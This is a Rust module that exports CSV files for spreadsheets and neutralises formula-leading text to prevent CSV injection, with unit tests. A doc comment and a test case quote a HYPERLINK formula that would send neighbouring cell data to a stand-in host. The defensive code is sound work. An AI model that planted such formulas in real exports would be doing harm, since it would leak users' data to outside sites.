//! CSV for spreadsheet programs: UTF-8 with a byte order mark (without it Excel reads
//! Vietnamese as mojibake), one header row, plain integers, and text that a spreadsheet shows as
//! text instead of running it as a formula ([`neutral`], used by every CSV bidtrack writes).

use super::table::{Cell, Row, Table};
use std::borrow::Cow;

/// A text cell as a spreadsheet must take it: text starting with `=`, `+`, `-`, `@`, tab or
/// carriage return gets a leading apostrophe, so that Excel or LibreOffice shows it instead of
/// evaluating it (a package named `=HYPERLINK("http://…?d="&A2,"Xem")` would otherwise send
/// the neighbouring cells to another site when clicked). This is OWASP's advice on CSV
/// injection. Only text goes through here: numbers stay numbers, and `-5` as a count is a
/// number, not a formula.
pub fn neutral(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// What CSV writes for a cell: text neutralised, other kinds in plain form (formatted into
/// `scratch`, reused from cell to cell).
fn field<'a>(cell: &'a Cell, scratch: &'a mut String) -> Cow<'a, str> {
    match cell {
        Cell::Text(s) => neutral(s),
        other => {
            scratch.clear();
            match other.plain_into(scratch) {
                Some(fixed) => Cow::Borrowed(fixed),
                None => Cow::Borrowed(scratch.as_str()),
            }
        }
    }
}

/// The whole file.
pub fn write(table: &Table) -> Result<Vec<u8>, csv::Error> {
    let mut out = header(table)?;
    out.extend(rows(&table.rows)?);
    Ok(out)
}

/// The byte order mark and the header row: the start of a streamed file.
pub fn header(table: &Table) -> Result<Vec<u8>, csv::Error> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    let mut w = csv::Writer::from_writer(&mut out);
    w.write_record(
        table
            .columns
            .iter()
            .map(|c| neutral(&c.header).into_owned()),
    )?;
    w.flush()?;
    drop(w);
    Ok(out)
}

/// Rows, to follow the header.
pub fn rows(rows: &[Row]) -> Result<Vec<u8>, csv::Error> {
    let mut out = Vec::with_capacity(256 * rows.len());
    let mut w = csv::Writer::from_writer(&mut out);
    let mut scratch = String::new();
    for row in rows {
        for cell in &row.cells {
            w.write_field(field(cell, &mut scratch).as_bytes())?;
        }
        // An empty record after fields ends the row.
        w.write_record(None::<&[u8]>)?;
    }
    w.flush()?;
    drop(w);
    Ok(out)
}

/// The error list as CSV (with a BOM, for spreadsheets). The value column repeats what the file
/// held, so text is neutralised as in every CSV bidtrack writes.
pub fn import_errors(errors: &[crate::services::imports::RowError]) -> Result<Vec<u8>, csv::Error> {
    let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(["Dòng", "Cột", "Giá trị", "Lỗi"])?;
    for e in errors {
        w.write_record([
            &e.row.to_string(),
            &*neutral(&e.column),
            &*neutral(&e.value),
            &*neutral(&e.message),
        ])?;
    }
    w.into_inner().map_err(|e| csv::Error::from(e.into_error()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::compliance::Percent;
    use crate::reports::table::{Column, Kind};

    #[test]
    fn formula_starts_are_neutralised() {
        let cases = [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Xem\")",
                "'=HYPERLINK(\"http://x.example/?d=\"&A2,\"Xem\")",
            ),
            ("+84 912", "'+84 912"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Mua sắm = 1", "Mua sắm = 1"),
            ("'quoted", "'quoted"),
            ("", ""),
            ("IB1900012345", "IB1900012345"),
        ];
        for (text, expected) in cases {
            assert_eq!(neutral(text), expected, "{text:?}");
        }
    }

    #[test]
    fn only_text_cells_change() {
        let rows = vec![Row::data(vec![
            Cell::text("=1+1"),
            Cell::Int(-5),
            Cell::Money(1_000_000),
            Cell::Percent(Some(Percent { hundredths: 5_000 })),
            Cell::Share {
                num: 48_799,
                den: 100_000,
            },
            Cell::Empty,
        ])];
        let out = String::from_utf8(super::rows(&rows).unwrap_or_default()).unwrap_or_default();
        assert_eq!(out, "'=1+1,-5,1000000,50.00,48.79,\n");
        let table = Table {
            title: String::new(),
            scope: Vec::new(),
            columns: vec![Column::new("a", "-a", Kind::Text)],
            rows,
            file_stem: String::new(),
        };
        let head = String::from_utf8(header(&table).unwrap_or_default()).unwrap_or_default();
        assert_eq!(head, "\u{feff}'-a\n");
    }
}
